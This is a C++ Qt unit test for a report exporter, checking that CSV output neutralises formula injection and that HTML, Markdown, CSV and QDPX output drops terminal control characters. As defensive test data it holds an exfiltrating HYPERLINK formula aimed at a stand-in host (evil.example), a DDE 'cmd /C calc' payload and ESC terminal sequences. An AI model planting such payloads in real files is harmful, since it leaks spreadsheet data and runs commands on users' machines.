// Article metadata is untrusted, and a report goes on to other programs. A title such as "=HYPERLINK(…)" must not
// become a live formula in the spreadsheet that opens the CSV (OWASP CSV injection), and control characters from
// front matter (ESC sequences that recolour or rewrite a terminal, form feeds, DEL, C1) must not reach the HTML,
// Markdown, CSV or REFI-QDA output, where they are invalid or harmful.

#include "csvreportwriter.h"
#include "htmlreportwriter.h"
#include "markdownreportwriter.h"
#include "qdpxwriter.h"
#include "reportexporter.h"
#include "reportfixture.h"

#include <QBuffer>
#include <QTemporaryDir>
#include <QXmlStreamReader>

using namespace Sourcelight;

namespace {

const QString Formula = QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")");
const QString Escape = QStringLiteral("\x1b[2J\x1b]0;owned\x07");

QString written(ReportFormat format, const ReportData &data, const ReportOptions &options = {})
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    QString error;
    if (!ReportExporter::write(format, data, options, buffer, {}, &error)) {
        qWarning("write failed: %s", qPrintable(error));
        return {};
    }
    return QString::fromUtf8(bytes);
}

/// The first control character that no text report may hold, as "U+001B at 123", or empty.
QString firstControl(const QString &text)
{
    for (qsizetype i = 0; i < text.size(); ++i) {
        const char16_t c = text.at(i).unicode();
        if ((c < 0x20 && c != u'\t' && c != u'\n' && c != u'\r') || (c >= 0x7f && c <= 0x9f)) {
            return QStringLiteral("U+%1 at %2").arg(int(c), 4, 16, QLatin1Char('0')).arg(i);
        }
    }
    return {};
}

} // namespace

class ReportSanitisingTest final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QVERIFY(m_store.open(
            m_dir.filePath(QStringLiteral("hostile.sourcelight")), ProjectStore::OpenMode::CreateIfMissing));
        m_store.setReviewer(QStringLiteral("@reviewer"));
        SourceRecord source;
        source.name = QStringLiteral("+Ministry") + Escape;
        source.kind = SourceKind::OfficialBody;
        const Id sourceId = ReportFixture::must(m_store.sources().addSource(source), m_store);

        DocumentMetadata m;
        m.title = Formula;
        m.outlet = QStringLiteral("-Daily Wire\x0c") + Escape;
        m.author = QStringLiteral("\tTab Author\x7f\u0085");
        const ReportFixture::Article article = ReportFixture::addArticle(m_store, m,
            {QStringLiteral("The bridge will reopen in May, the ministry said."),
                QStringLiteral("Repairs cost 4 million, officials said.")});
        for (const Id sentence : article.sentenceIds) {
            AttributionRecord a;
            a.hops = {ReportFixture::hop(sourceId)};
            a.cueText = QStringLiteral("said");
            a.scope = AttributionScope::Explicit;
            a.origin = AttributionOrigin::Confirmed;
            ReportFixture::must(m_store.attributions().setHumanAttribution(sentence, a), m_store);
            ClaimRecord c;
            c.sentenceId = sentence;
            c.note = sentence == article.sentenceIds.first() ? QStringLiteral("-12.5") : QStringLiteral("@SUM(1+1)");
            ReportFixture::must(m_store.claims().addClaim(c), m_store);
        }
        m_data = ReportFixture::report(m_store);
    }

    void neutralisedCells_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("expected");
        QTest::newRow("formula") << Formula << QString(QLatin1Char('\'') + Formula);
        QTest::newRow("plus") << QStringLiteral("+1+cmd|' /C calc'!A0") << QStringLiteral("'+1+cmd|' /C calc'!A0");
        QTest::newRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
        QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)");
        QTest::newRow("tab") << QStringLiteral("\t=1") << QStringLiteral("'\t=1");
        QTest::newRow("carriage return") << QStringLiteral("\r=1") << QStringLiteral("'\r=1");
        QTest::newRow("negative number") << QStringLiteral("-12.5") << QStringLiteral("-12.5");
        QTest::newRow("signed number") << QStringLiteral("+3") << QStringLiteral("+3");
        QTest::newRow("ordinary text") << QStringLiteral("Kyiv = capital") << QStringLiteral("Kyiv = capital");
        QTest::newRow("empty") << QString() << QString();
    }

    void neutralisedCells()
    {
        QFETCH(QString, cell);
        QFETCH(QString, expected);
        QCOMPARE(CsvReportWriter::neutralised(cell), expected);
    }

    // A control character in front of a formula is dropped before the formula rule is applied, not after: else
    // the cell would reach the spreadsheet as a live formula.
    void controlBeforeFormula()
    {
        QCOMPARE(CsvReportWriter::record({QStringLiteral("\x01=1+1"), QStringLiteral("\u0085@SUM(A1)")}),
            QStringLiteral("'=1+1,'@SUM(A1)\r\n"));
    }

    // The whole export: the title, outlet, source name, reviewer and note cells as a spreadsheet receives them.
    void csvNeutralisesByDefault()
    {
        const QString csv = written(ReportFormat::Csv, m_data);
        QVERIFY(!csv.isEmpty());
        QVERIFY2(csv.contains(QStringLiteral(",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",")),
            qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",'-Daily Wire[2J]0;owned,")), qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",'+Ministry[2J]0;owned,")), qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",'@reviewer,")), qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",'@SUM(1+1),")), qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",-12.5,")), qPrintable(csv));
        // No cell of any line starts a formula: every field after a separator or line start.
        const QStringList lines = csv.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 3);
        QVERIFY2(firstControl(csv).isEmpty(), qPrintable(firstControl(csv)));
    }

    void csvRawKeepsCellsAsTheyAre()
    {
        ReportOptions options;
        options.csvRaw = true;
        const QString csv = written(ReportFormat::Csv, m_data, options);
        QVERIFY2(csv.contains(QStringLiteral(",\"=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",")),
            qPrintable(csv));
        QVERIFY2(csv.contains(QStringLiteral(",@SUM(1+1),")), qPrintable(csv));
        // Raw is about formulas only: control characters are still dropped.
        QVERIFY2(firstControl(csv).isEmpty(), qPrintable(firstControl(csv)));
    }

    void noControlCharactersInTextReports_data()
    {
        QTest::addColumn<int>("format");
        QTest::newRow("html") << int(ReportFormat::Html);
        QTest::newRow("markdown") << int(ReportFormat::Markdown);
        QTest::newRow("csv") << int(ReportFormat::Csv);
    }

    void noControlCharactersInTextReports()
    {
        QFETCH(int, format);
        const QString text = written(ReportFormat(format), m_data);
        QVERIFY(!text.isEmpty());
        QVERIFY2(firstControl(text).isEmpty(), qPrintable(firstControl(text)));
        // What surrounded the control characters is still there.
        QVERIFY2(text.contains(QStringLiteral("Daily Wire")), qPrintable(text.left(2000)));
        QVERIFY2(text.contains(QStringLiteral("Ministry")), qPrintable(text.left(2000)));
    }

    // REFI-QDA's project.qde is XML 1.0, which cannot hold these characters at all: the file must stay well formed.
    void qdpxProjectIsWellFormedXml()
    {
        QdpxWriter writer;
        const QByteArray xml = writer.projectXml(m_data, {});
        QXmlStreamReader reader(xml);
        while (!reader.atEnd()) {
            reader.readNext();
        }
        QVERIFY2(!reader.hasError(), qPrintable(reader.errorString()));
        QVERIFY(xml.contains("+Ministry[2J]0;owned"));
    }

private:
    QTemporaryDir m_dir;
    ProjectStore m_store;
    ReportData m_data;
};

QTEST_MAIN(ReportSanitisingTest)
#include "reportsanitising_test.moc"
